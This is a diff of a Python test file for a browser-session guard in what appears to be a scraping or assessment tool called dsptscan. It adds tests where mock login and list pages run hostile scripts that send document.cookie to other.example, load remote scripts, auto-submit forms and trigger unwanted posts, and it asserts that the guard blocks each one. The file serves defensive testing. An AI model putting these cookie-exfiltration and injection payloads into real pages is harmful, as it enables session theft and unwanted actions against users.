@@ -4,11 +4,12 @@ from __future__ import annotations
 
 import contextlib
 import socket
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from dsptscan.errors import GuardStopped
+from dsptscan.errors import GuardStopped, ToolkitUnavailable
 from dsptscan.practice import Answer, PracticeToolkit
 from dsptscan.practice.pages import login_page
 from dsptscan.toolkit.session import Session
@@ -52,7 +53,15 @@ safely(() => { new Image().src = '/pixel?' + document.cookie; });
 safely(() => { new Image().src = 'https://other.example/?' + document.cookie; });
 for (const end of ['pagehide', 'beforeunload', 'unload', 'visibilitychange']) addEventListener(end, () => {
   navigator.sendBeacon('/left-beacon', 'x'); fetch('/left-keepalive', {method: 'POST', keepalive: true, body: 'x'}); });
-document.forms[0].addEventListener('submit', () => {
+safely(() => { const a = document.createElement('a'); a.href = '#here'; a.ping = '/ping'; document.body.append(a);
+  a.click(); });
+safely(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://other.example/x.css';
+  document.head.append(l); });
+safely(() => { const s = document.createElement('script'); s.src = 'https://other.example/x.js';
+  document.head.append(s); });
+safely(() => { const f = document.createElement('iframe'); f.srcdoc = '<form method=post action=/srcdoc></form>' +
+  '<script>document.forms[0].submit()</' + 'script>'; document.body.append(f); });
+document.forms[0]?.addEventListener('submit', () => {
   navigator.sendBeacon('/submit-beacon', 'x'); fetch('/submit', {method: 'POST', keepalive: true, body: 'x'}); });
 document.title = 'scripts ran';
 """
@@ -66,6 +75,26 @@ def hostile_login(toolkit: PracticeToolkit, script: str, head: str = "") -> None
     html = page(f"<h1>Log in</h1><div id=here></div><script>{shown}{script}</script>", head)
     headers = (("Set-Cookie", f"__RequestVerificationToken={cookie}; HttpOnly"),)
     toolkit.extra["GET /Account/Login"] = Answer(200, html.encode(), headers, open_to_all=True)
+
+
+# The list is drawn from data that a script asks the toolkit for.
+DRAWN = """
+fetch('/data').then(answer => answer.json()).then(refs => { document.getElementById('here').innerHTML =
+  refs.map((ref, i) => `<li><a class=red href="/Q/${i + 1}">${ref} Invented</a>`).join(''); });
+"""
+
+
+@pytest.fixture
+def drawn(tmp_path: Path) -> Iterator[PracticeToolkit]:
+    """A toolkit whose list a script draws. What else that script does, a test adds with `also`."""
+    with PracticeToolkit(write_site(tmp_path / "layout")) as running:
+        running.extra["/data"] = Answer(200, b'["1.1.1", "1.1.2"]', content_type="application/json")
+        also(running, "")
+        yield running
+
+
+def also(toolkit: PracticeToolkit, script: str) -> None:
+    toolkit.extra["/assessment"] = page(f"<h1>Assessment</h1><ul id=here></ul><script>{DRAWN}{script}</script>")
 
 
 def read_on(session: Session, opened: str, fetched: str) -> None:
@@ -111,15 +140,15 @@ def test_a_sign_in_page_whose_scripts_try_everything(toolkit: PracticeToolkit, s
     assert [request.path for request in toolkit.log if request.method != "GET"] == ["/Account/Login"]
 
 
-@pytest.mark.parametrize(
-    "script",
-    [
-        "location = '/Assessment/Publish';",
-        "const f = document.createElement('form'); f.method = 'post'; f.action = '/Account/Register';"
-        "document.body.append(f); f.submit();",
-        "window.open('/Assessment/Publish');",
-    ],
-)
+MOVES = [
+    "location = '/Assessment/Publish';",
+    "const f = document.createElement('form'); f.method = 'post'; f.action = '/Account/Register';"
+    "document.body.append(f); f.submit();",
+    "window.open('/Assessment/Publish');",
+]
+
+
+@pytest.mark.parametrize("script", MOVES)
 def test_a_sign_in_page_that_moves_to_another_page(toolkit: PracticeToolkit, sign_in: SignIn, script: str) -> None:
     hostile_login(toolkit, script)
     with pytest.raises(GuardStopped), sign_in(toolkit):
@@ -162,3 +191,83 @@ def test_a_policy_that_forbids_fetch_and_one_that_reports(tmp_path: Path, sign_i
             refused = session.refused
         assert not {"/report", "/rules.json"} & {path for _, path in arrived(toolkit)}
         assert refused["a browser's report"] >= 1
+
+
+@pytest.mark.parametrize("where", ["/assessment", "/q/1"])
+def test_a_policy_on_the_questions_and_on_the_list(toolkit: PracticeToolkit, sign_in: SignIn, where: str) -> None:
+    headers = (("Content-Security-Policy", "default-src 'none'; sandbox; report-uri /report"),)
+    toolkit.extra[where] = Answer(200, page(LIST).encode(), headers)
+    with sign_in(toolkit) as session:
+        session.open("/Assessment")
+        assert [str(found.html).count("</html>") for found in session.fetch(["/Q/1", "/Q/2"])] == [1, 1]
+    assert "/report" not in {path for _, path in arrived(toolkit)}
+
+
+def test_a_stylesheet_that_asks_for_more(tmp_path: Path, sign_in: SignIn) -> None:
+    site = write_site(tmp_path / "layout")
+    more = '@import "https://other.example/x.css"; @import "/Assessment/Publish";'
+    (tmp_path / "layout" / "style.css").write_text(
+        more + "a { background: url(/pixel); color: rgb(1, 2, 3) } @font-face { font-family: x; src: url(/font) }"
+    )
+    with PracticeToolkit(site) as toolkit, sign_in(toolkit) as session:
+        assert session.open("/Assessment").link_colours["/Q/2"] == "rgb(1, 2, 3)"
+    assert sorted(arrived(toolkit)) == sorted(session.sent)
+    assert not {"/Assessment/Publish", "/pixel", "/font"} & {path for _, path in arrived(toolkit)}
+
+
+def test_pages_that_are_downloads(toolkit: PracticeToolkit, sign_in: SignIn, tmp_path: Path) -> None:
+    headers = (("Content-Disposition", "attachment; filename=answers.xlsx"),)
+    toolkit.extra["/q/1"] = Answer(200, b"PK", headers, content_type="application/octet-stream")
+    with sign_in(toolkit) as session:
+        first, second = session.fetch(["/Q/1", "/Q/2"])
+        assert (first.html, bool(first.unread), bool(second.html)) == ("", True, True)
+        with pytest.raises(ToolkitUnavailable):
+            session.open("/Q/1?as=list")
+    assert list(tmp_path.rglob("*answers*")) == []
+
+
+def test_a_list_drawn_by_script(drawn: PracticeToolkit, sign_in: SignIn) -> None:
+    with sign_in(drawn) as session:
+        assert "1.1.2" not in str(session.open("/Assessment").html)
+        shown = session.open_with_scripts("/Assessment")
+        assert ("1.1.2 Invented" in str(shown.html), shown.link_colours["/Q/1"]) == (True, "rgb(200, 10, 20)")
+        assert session.open("/Assessment") is shown
+        assert [str(found.html).count("</html>") for found in session.fetch(["/Q/1", "/Q/2"])] == [1, 1]
+    assert sorted(arrived(drawn)) == sorted(session.sent)
+    assert [path for _, path in arrived(drawn)].count("/data") == 1
+    assert drawn.writes == []
+
+
+def test_a_list_whose_scripts_try_everything(drawn: PracticeToolkit, sign_in: SignIn) -> None:
+    also(drawn, SCRIPTS + "fetch('/Assessment/Publish'); fetch('/Q/Delete?1'); fetch('/data', {method: 'PUT'});")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
+        stun.bind(("127.0.0.1", int(drawn.url.rpartition(":")[2])))
+        stun.setblocking(False)
+        with sign_in(drawn) as session:
+            session.open("/Assessment")
+            assert "1.1.2 Invented" in str(session.open_with_scripts("/Assessment").html)
+            assert len(list(session.fetch(["/Q/1"]))) == 1
+        with pytest.raises(BlockingIOError):
+            stun.recv(1)
+    assert sorted(arrived(drawn)) == sorted(session.sent)
+    asked = [path for _, path in session.sent if path not in ("/Account/Login", "/Home", "/Content/style.css")]
+    assert sorted(set(asked)) == ["/Assessment", "/Q/1", "/data"]
+    assert session.refused["a script's own post"] >= 3
+    assert [path for method, path in session.sent if method != "GET"] == ["/Account/Login"]
+
+
+def read_drawn(session: Session) -> None:
+    session.open("/Assessment")
+    with contextlib.suppress(GuardStopped):
+        session.open_with_scripts("/Assessment")
+    session.open("/Q/1")
+
+
+@pytest.mark.parametrize("script", MOVES)
+def test_a_list_whose_scripts_move_to_another_page(drawn: PracticeToolkit, sign_in: SignIn, script: str) -> None:
+    also(drawn, script)
+    with pytest.raises(GuardStopped), sign_in(drawn) as session:
+        read_drawn(session)
+    meant = {"/Account/Login", "/Home", "/Content/style.css", "/Assessment", "/data"}
+    assert {path for _, path in arrived(drawn)} <= meant
+    assert [method for method, _ in arrived(drawn)].count("POST") == 1
